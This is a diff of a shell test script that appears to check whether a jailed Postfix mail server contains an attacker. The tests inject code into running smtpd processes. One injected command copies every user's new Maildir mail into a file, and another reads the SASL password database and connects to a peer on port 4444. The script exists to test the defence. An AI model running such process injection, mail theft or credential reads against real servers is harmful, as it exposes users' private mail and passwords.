@@ -392,6 +392,7 @@ attack_code_shell() {
 	harm exec /usr/bin/dash
 	harm exec /usr/bin/id
 	harm write /tmp/out
+	ready # there is a letter to steal
 	inject_pid "${container_pid[postfix]}" 'call (int) system("id >/tmp/out; cat /home/*/Maildir/new/* >>/tmp/out")'
 	grep -q 'uid=0' "$(image_path postfix /tmp/out)"
 	grep -q '^Subject:' "$(image_path postfix /tmp/out)"
@@ -406,23 +407,13 @@ attack_code_credentials() {
 	[ "$(grep -cE '= [0-9]+' "$stage/answer")" = 2 ]
 }
 
-# smtpd_held: a client holds a connection to the port of submissions for a while.
-smtpd_held() {
-	{
-		printf 'EHLO client.peer.example\r\n'
-		sleep 30
-	} | client_stdin socat -t 1 - "TCP:$own_address:587" >"$stage/held" 2>&1 &
-	children[$!]=1
-	until_true 20 grep -q '^250 ' "$stage/held"
-}
-
 # Code inside an smtpd, which is in the jail: the passwords of all users, and no program.
 attack_code_connect() {
 	local s f held='^smtpd -n submission -'
 	harm read '*/etc/sasldb2'
 	harm connect "$peer_address:4444"
 	thief_begin
-	smtpd_held
+	connection_held 587 'EHLO client.peer.example\r\n' '^250 '
 	# As inject_theft() does it.
 	s=$(inject_call postfix "$held" 41 2 1 0)
 	inject_call postfix "$held" 42 "${s#* }" words:0x0100580a5c110002,0 16
